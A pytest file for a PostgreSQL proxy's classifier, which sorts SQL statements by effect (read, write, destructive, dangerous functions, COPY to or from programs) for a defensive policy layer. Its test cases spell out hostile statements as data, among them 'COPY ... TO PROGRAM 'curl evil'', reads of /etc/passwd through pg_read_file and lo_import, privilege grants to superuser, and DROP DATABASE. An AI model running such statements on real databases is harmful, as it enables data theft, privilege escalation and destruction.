"""Statement classification by effect, with PostgreSQL's grammar (pglast)."""

from __future__ import annotations

import psycopg
import pytest

from pgproxy.devdb import Database
from pgproxy.policy.classify import SqlSyntaxError, classify

# (sql, classes that must be present, classes that must be absent)
CASES: list[tuple[str, set[str], set[str]]] = [
    ("select 1", {"read"}, {"write", "destructive", "dangerous_function"}),
    ("SELECT * FROM shop.orders WHERE id = 1", {"read"}, {"write"}),
    ("insert into t values (1)", {"write"}, {"destructive"}),
    ("update t set a = 1 where id = 2", {"write"}, {"destructive"}),
    ("update t set a = 1", {"write", "destructive"}, set()),
    ("UPDATE t SET a = 1 WHERE true", {"write", "destructive"}, set()),
    ("delete from t where 1 = 1", {"write", "destructive"}, set()),
    ("delete from t where id = 1", {"write"}, {"destructive"}),
    ("DeLeTe FrOm T", {"write", "destructive"}, set()),
    ("merge into t using s on t.a = s.a when matched then update set b = 1", {"write"}, set()),
    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", {"write", "destructive", "read"}, set()),
    ("with x as (insert into t values (1) returning id) select id from x", {"write"}, {"destructive"}),
    ("SELECT * FROM t FOR UPDATE", {"write"}, set()),
    ("select * from t for share skip locked", {"write"}, set()),
    ("select 1 into newtab", {"write", "ddl"}, set()),
    ("create table a (x int)", {"ddl"}, {"destructive"}),
    ("create table b as select * from a", {"ddl", "write", "read"}, set()),
    ("alter table a add column y int", {"ddl"}, set()),
    ("create index on a (x)", {"ddl"}, set()),
    ("create view v as select 1", {"ddl"}, set()),
    ("comment on table a is 'x'", {"ddl"}, set()),
    ("drop table a", {"ddl", "destructive"}, set()),
    ("DROP SCHEMA s CASCADE", {"ddl", "destructive"}, set()),
    ("drop database x", {"ddl", "destructive"}, set()),
    ("truncate a, b", {"write", "destructive"}, set()),
    ("grant select on a to bob", {"dcl"}, set()),
    ("revoke all on a from bob", {"dcl"}, set()),
    ("grant admin to bob", {"dcl"}, set()),
    ("create role r login", {"dcl"}, set()),
    ("alter role r superuser", {"dcl"}, set()),
    ("alter user r with password 'x'", {"dcl"}, set()),
    ("drop role r", {"dcl", "destructive"}, set()),
    ("alter default privileges grant select on tables to r", {"dcl"}, set()),
    ("alter system set work_mem = '1GB'", {"dcl"}, set()),
    ("set search_path = evil", {"session"}, {"transaction"}),
    ("reset all", {"session"}, set()),
    ("set role postgres", {"session"}, set()),
    ("set session authorization postgres", {"session"}, set()),
    ("discard all", {"session"}, set()),
    ("select set_config('search_path', 'evil', false)", {"session", "dangerous_function"}, set()),
    ("begin", {"transaction"}, set()),
    ("start transaction isolation level serializable", {"transaction"}, set()),
    ("commit", {"transaction"}, set()),
    ("rollback to savepoint s", {"transaction"}, set()),
    ("prepare transaction 'x'", {"transaction"}, set()),
    ("set transaction read only", {"transaction"}, {"session"}),
    ("copy t from stdin", {"copy_in", "write"}, {"copy_program", "copy_file"}),
    ("copy t to stdout", {"copy_out", "read"}, {"copy_program", "copy_file", "write"}),
    ("COPY t TO PROGRAM 'curl evil'", {"copy_out", "copy_program"}, {"copy_file"}),
    ("copy t from program 'cat /etc/passwd'", {"copy_in", "copy_program"}, set()),
    ("copy t from '/etc/passwd'", {"copy_in", "copy_file"}, {"copy_program"}),
    ("copy (delete from t returning *) to stdout", {"copy_out", "write", "destructive"}, set()),
    ("DO $$ begin perform 1; end $$", {"procedural"}, set()),
    ("call p(1)", {"procedural"}, set()),
    ("create function f() returns int language sql as $$ select 1 $$", {"procedural", "ddl"}, set()),
    ("create or replace procedure p() language plpgsql as $$ begin end $$", {"procedural"}, set()),
    ("load 'plpgsql'", {"procedural"}, set()),
    ("select pg_read_file('/etc/passwd')", {"dangerous_function", "read"}, set()),
    ("SELECT PG_CATALOG.PG_READ_BINARY_FILE('/x')", {"dangerous_function"}, set()),
    ('select "pg_read_file"(\'/x\')', {"dangerous_function"}, set()),
    ("select * from (select pg_ls_dir('.')) s", {"dangerous_function"}, set()),
    ("select 1 where exists (select lo_import('/etc/passwd'))", {"dangerous_function"}, set()),
    ("with x as (select pg_terminate_backend(1)) select * from x", {"dangerous_function"}, set()),
    ("select dblink_exec('host=x', 'drop table t')", {"dangerous_function"}, set()),
    ("select query_to_xml('delete from t', true, true, '')", {"dangerous_function"}, set()),
    ("select pg_reload_conf()", {"dangerous_function"}, set()),
    ("select pg_sleep(1)", {"read"}, {"dangerous_function"}),
    ("select lower('pg_read_file(1)') -- pg_read_file('/x')", {"read"}, {"dangerous_function"}),
    ("/* drop table t */ select 'delete from t'", {"read"}, {"write", "destructive", "ddl"}),
    ('select * from "DROP TABLE x"', {"read"}, {"ddl", "destructive"}),
    ("select 1; delete from t", {"multi_statement", "read", "write", "destructive"}, set()),
    ("EXPLAIN ANALYZE DELETE FROM t", {"explain", "write", "destructive"}, set()),
    ("explain (analyze, buffers) update t set a = 1", {"explain", "write", "destructive"}, set()),
    ("explain delete from t", {"explain", "read"}, {"write", "destructive"}),
    ("explain (analyze false) delete from t", {"explain"}, {"write"}),
    ("PREPARE p AS DELETE FROM t", {"prepare", "write", "destructive"}, set()),
    ("prepare q (int) as select $1", {"prepare", "read"}, {"write"}),
    ("execute q(1)", {"execute"}, set()),
    ("DECLARE c CURSOR FOR SELECT * FROM t", {"cursor", "read"}, {"write"}),
    ("declare c cursor for select * from t for update", {"cursor", "write"}, set()),
    ("fetch 10 from c", {"read"}, set()),
    ("show work_mem", {"read"}, set()),
    ("vacuum analyze t", {"utility"}, set()),
    ("analyze t", {"utility"}, set()),
    ("listen ch", {"utility"}, set()),
    ("notify ch, 'x'", {"utility"}, set()),
    ("lock table t", {"utility"}, set()),
    ("checkpoint", {"utility"}, set()),
]


@pytest.mark.parametrize(("sql", "present", "absent"), CASES, ids=[c[0][:40] for c in CASES])
def test_classes(sql: str, present: set[str], absent: set[str]) -> None:
    classes = classify(sql).classes
    assert present <= classes, (sql, sorted(classes))
    assert not (absent & classes), (sql, sorted(classes))


def test_statements_are_judged_each_on_its_own() -> None:
    c = classify("select * from a; delete from b; /* x */ begin")
    assert [s.node for s in c.statements] == ["SelectStmt", "DeleteStmt", "TransactionStmt"]
    assert c.statements[0].classes == {"read", "multi_statement"}
    assert "destructive" in c.statements[1].classes and "destructive" not in c.statements[0].classes
    assert c.statements[1].sql == "delete from b"
    assert "3 statements in one string" in c.reasons


def test_tables_columns_functions_recorded() -> None:
    c = classify("select o.id, lower(c.name) from shop.orders o join customers c on c.id = o.cid "
                 "where o.total > (select avg(total) from shop.orders) and now() > o.at")
    assert c.tables == ("shop.orders", "customers")
    assert {"o.id", "c.name", "c.id", "o.cid", "o.total", "total", "o.at"} <= set(c.columns)
    assert set(c.functions) == {"lower", "avg", "now"}


def test_cte_names_are_not_tables() -> None:
    c = classify("WITH d AS (DELETE FROM public.orders RETURNING *) SELECT * FROM d")
    assert c.tables == ("public.orders",)
    assert "DELETE without WHERE on public.orders" in c.reasons


def test_reasons_are_readable() -> None:
    assert classify("truncate shop.orders").reasons == ("TRUNCATE shop.orders",)
    assert classify("update t set a = 1").reasons == ("UPDATE of t", "UPDATE without WHERE on t")
    assert "calls pg_read_file()" in classify("select pg_read_file('/x')").reasons
    assert "COPY TO PROGRAM 'x'" in classify("copy t to program 'x'").reasons
    assert classify("drop table a.b, c").tables == ("a.b", "c")


def test_empty_and_comment_only() -> None:
    assert classify("").statements == ()
    assert classify("-- nothing\n").classes == frozenset()


def test_cached_by_text() -> None:
    assert classify("select 42") is classify("select 42")


def test_deeply_nested_expression_does_not_recurse() -> None:
    sql = "select " + "(" * 500 + "1" + ")" * 500
    assert "read" in classify(sql).classes


BAD = ["selec 1", "select 1 frm t where", "select (1", "select 'é' from t whre x", "select 1;\nselect from where",
       "select 'unterminated", "delete t"]


@pytest.mark.parametrize("sql", BAD)
def test_syntax_errors(sql: str) -> None:
    with pytest.raises(SqlSyntaxError) as info:
        classify(sql)
    assert info.value.position >= 1
    assert "syntax error" in info.value.message or "unterminated" in info.value.message


@pytest.mark.parametrize("sql", BAD)
def test_syntax_errors_match_the_server(database: Database, sql: str) -> None:
    with pytest.raises(SqlSyntaxError) as info:
        classify(sql)
    with psycopg.connect(database.dsn(), autocommit=True) as conn, \
            pytest.raises(psycopg.errors.SyntaxError) as server:
        conn.execute(sql, prepare=False)
    diag = server.value.diag
    assert info.value.message == diag.message_primary
    assert str(info.value.position) == diag.statement_position
